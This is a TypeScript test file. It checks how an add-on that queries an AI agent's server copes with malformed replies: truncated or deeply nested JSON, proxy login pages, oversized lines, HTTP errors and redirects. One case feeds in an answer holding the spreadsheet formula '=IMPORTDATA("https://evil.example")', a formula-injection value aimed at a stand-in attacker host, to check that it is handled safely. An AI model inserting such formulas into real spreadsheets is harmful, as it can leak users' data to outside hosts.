/** Replies of the agent's server, or of a proxy: the row is answered or says why not, and the next row is answered as usual. */
import type { WireRequest, WireResult } from '../../local/runtime';
import { live } from '../e2e/agent/live-support';
import { said } from '../e2e/transport';
import { fakeAgent } from '../support/agent-server/fake-fetch';
import { answered } from '../support/agent-server/states';

const ODD_QUERY = 'Where is it odd?';
/** A login page, possibly a proxy's. */
const PAGE = said(200, '<!DOCTYPE html><html><body>Log in</body></html>');
const stateReply = (state: string | object): WireResult =>
  said(200, JSON.stringify({ state: typeof state === 'string' ? state : JSON.stringify(state) }));
const STATE = answered(ODD_QUERY, 'The answer is 9,587.2 hectares.');

/**
 * Replies in place of the chat's stream or of the thread's state, with the row's error; absent if the row is answered anyway. One of each
 * kind: test/agent/live has the details.
 */
const REPLIES: readonly (readonly [
  inPlaceOf: 'chat' | 'state',
  what: string,
  sent: WireResult,
  error?: RegExp,
])[] = [
  [
    'state',
    'a state that is cut off',
    stateReply(JSON.stringify(STATE).slice(0, 200)),
    /^the agent state is not JSON; it begins with “/,
  ],
  [
    'state',
    'a state of 20,000 levels',
    stateReply(`${'{"messages":'.repeat(20_000)}1${'}'.repeat(20_000)}`),
    /nested more than 500 levels deep$/,
  ],
  [
    'state',
    'a state whose messages are numbers',
    stateReply({ ...STATE, messages: [1, 2] }),
    /^the agent state cannot be read: messages\.0 must be an object$/,
  ],
  [
    'state',
    'a page for a state',
    PAGE,
    /this address returns a web page, not the agent \(a proxy or a login\?\)/,
  ],
  [
    'state',
    'a formula for an answer',
    stateReply(answered(ODD_QUERY, '=IMPORTDATA("https://evil.example")')),
  ],
  ['state', 'an answer of 200,000 characters', stateReply(answered(ODD_QUERY, 'a '.repeat(100_000)))],
  ['state', 'an answer that is half a character', stateReply(answered(ODD_QUERY, 'a\ud83d'))],
  ['chat', 'nothing for the chat', said(200, '')],
  ['chat', 'a line of 1 MB', said(200, `{"node":"x","update":"${'a'.repeat(1_000_000)}"}\n`)],
  [
    'chat',
    'HTTP 422 for the chat',
    said(422, '{"detail":[{"msg":"bad query"}]}'),
    /^the agent rejected the question \(HTTP 422\): “bad query”$/,
  ],
];

/** Asks two questions; the agent's reply to the first one is odd. */
function askedWith(inPlaceOf: 'chat' | 'state', sent: WireResult) {
  const [chat, state] = inPlaceOf === 'chat' ? [sent, undefined] : [undefined, sent];
  const server = fakeAgent();
  const odd = new Set<string>();
  const replyTo = ({ url, body }: WireRequest): WireResult | undefined => {
    const text = Buffer.from(body ?? []).toString('utf8');
    const thread = /"thread_id":"([^"]+)"/.exec(text)?.[1];
    if (url.endsWith('/chat') && text.includes(ODD_QUERY)) {
      if (thread !== undefined) odd.add(thread);
      return chat;
    }
    return [...odd].some((id) => url.includes(encodeURIComponent(id))) ? state : undefined;
  };
  const { addOn } = live(
    [],
    {},
    {},
    [
      ['test_id', 'query', 'expected_aoi_ids'],
      ['odd', ODD_QUERY, 'BRA.14_1'],
      ['good', 'Where is it good?', 'BRA.14_1'],
    ],
    {
      transport: (requests, most) => {
        const replies = server.transport(requests, most);
        return requests.map((request, index) => {
          const sent = replyTo(request) ?? replies[index] ?? { failure: 'nothing' };
          return { latencyMs: 50, ...sent };
        });
      },
    },
  );
  const answer = addOn.ask('askAgent', { thenScore: true });
  addOn.settle();
  return { addOn, answer };
}

it.each(REPLIES)(
  'An agent whose server sends, in place of the %s, %s',
  (inPlaceOf, _what, sent, error: RegExp | null = null) => {
    const { addOn, answer } = askedWith(inPlaceOf, sent);
    expect(answer.ok).toBe(true);
    const [odd, good] = [4, 5].map((row) => addOn.row('GOLD results', row));
    if (error) expect([odd?.['verdict'], odd?.['error']]).toEqual(['error', expect.stringMatching(error)]);
    else expect(odd?.['error']).toBe(null);
    expect([good?.['verdict'], good?.['error']]).toEqual(['pass', null]);
  },
);

it.each<readonly [string, WireResult, string]>([
  ['a page', PAGE, 'this address returns a web page, not the agent (a proxy or a login?)'],
  ['a redirect', said(307, '', { Location: 'https://evil.example/' }), 'the address redirects (HTTP 307)'],
])(
  'A run rests with the answers that it has, and says why, once the agent cannot be asked at all: %s answers',
  (_what, chat, why) => {
    const { addOn, answer } = askedWith('chat', chat);
    expect(answer).toMatchObject({
      ok: true,
      value: { state: 'paused', rowsDone: 1, why: expect.stringContaining(why) },
    });
    expect(addOn.row('Responses', 2)).toMatchObject({ test_id: 'good', error: null });
  },
);
